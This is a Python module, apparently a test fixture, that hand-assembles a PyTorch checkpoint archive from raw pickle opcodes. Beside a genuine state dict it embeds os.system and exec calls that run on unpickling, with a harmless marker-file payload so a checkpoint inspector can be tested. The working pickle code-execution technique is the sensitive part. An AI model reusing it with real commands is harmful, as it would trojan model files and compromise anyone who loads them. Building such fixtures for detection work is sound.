"""A checkpoint that runs commands when it is unpickled, assembled by hand: nothing here pickles anything.

It looks like a training checkpoint: a torch.save archive with a complete state dict, and beside it two values whose
making calls `os.system` and `builtins.exec`. The payload is harmless (it writes a file named INSPECTOR_MARKER into the
working directory), so that a test can see whether it ran.
"""

from __future__ import annotations

import io
import struct
import zipfile
from collections.abc import Mapping

import numpy as np
from numpy.typing import NDArray

MARKER = "INSPECTOR_MARKER"
COMMAND = f"echo a command inside the checkpoint ran > {MARKER}"
CODE = f"open({MARKER!r}, 'a').write('code inside the checkpoint ran\\n')"

# Opcodes of the pickle protocol (Python's pickletools lists them all).
_PROTO_2, _STOP = b"\x80\x02", b"."
_MARK, _TUPLE, _EMPTY_TUPLE, _EMPTY_DICT, _SETITEMS = b"(", b"t", b")", b"}", b"u"
_GLOBAL, _REDUCE, _PERSISTENT_ID = b"c", b"R", b"Q"
_FALSE = b"\x89"

_STORAGES = {"float32": "FloatStorage", "int64": "LongStorage"}


def hostile_archive(tensors: Mapping[str, NDArray[np.generic]], *, stem: str = "hostile", epoch: int = 28) -> bytes:
    """A torch.save archive {"state_dict": tensors, "epoch": ..., "config": payload, "transform": payload}.

    tensors: float32 or int64 arrays by name. Raises KeyError for another dtype.
    """
    state = _reduce("collections", "OrderedDict", _EMPTY_TUPLE)
    state += _mapping({name: _tensor(str(key), array) for key, (name, array) in enumerate(tensors.items())})
    entries = {
        "state_dict": state,
        "epoch": _integer(epoch),
        "config": _reduce("os", "system", _tuple(_text(COMMAND))),
        "transform": _reduce("builtins", "exec", _tuple(_text(CODE))),
    }
    pickle = _PROTO_2 + _EMPTY_DICT + _mapping(entries) + _STOP
    members = {"data.pkl": pickle, "byteorder": b"little"}
    members |= {f"data/{key}": array.tobytes() for key, array in enumerate(tensors.values())}
    members["version"] = b"3\n"
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_STORED) as file:
        for name, content in members.items():
            file.writestr(zipfile.ZipInfo(f"{stem}/{name}", (1980, 1, 1, 0, 0, 0)), content)
    return archive.getvalue()


def _text(value: str) -> bytes:
    encoded = value.encode()
    return b"X" + struct.pack("<I", len(encoded)) + encoded


def _integer(value: int) -> bytes:
    return b"J" + struct.pack("<i", value)


def _tuple(*items: bytes) -> bytes:
    return _MARK + b"".join(items) + _TUPLE


def _global(module: str, name: str) -> bytes:
    return _GLOBAL + f"{module}\n{name}\n".encode()


def _reduce(module: str, name: str, arguments: bytes) -> bytes:
    """Call module.name with a tuple of arguments."""
    return _global(module, name) + arguments + _REDUCE


def _mapping(entries: Mapping[str, bytes]) -> bytes:
    """Set these entries on the mapping that lies on the stack."""
    return _MARK + b"".join(_text(key) + value for key, value in entries.items()) + _SETITEMS


def _tensor(key: str, array: NDArray[np.generic]) -> bytes:
    """A contiguous tensor over the storage member data/<key>, as torch.save writes it."""
    storage = _tuple(
        _text("storage"), _global("torch", _STORAGES[array.dtype.name]), _text(key), _text("cpu"), _integer(array.size)
    )
    stride = [n // array.itemsize for n in np.empty(array.shape, array.dtype).strides]
    hooks = _reduce("collections", "OrderedDict", _EMPTY_TUPLE)
    arguments = _tuple(
        storage + _PERSISTENT_ID,
        _integer(0),
        _tuple(*map(_integer, array.shape)),
        _tuple(*map(_integer, stride)),
        _FALSE,
        hooks,
    )
    return _reduce("torch._utils", "_rebuild_tensor_v2", arguments)
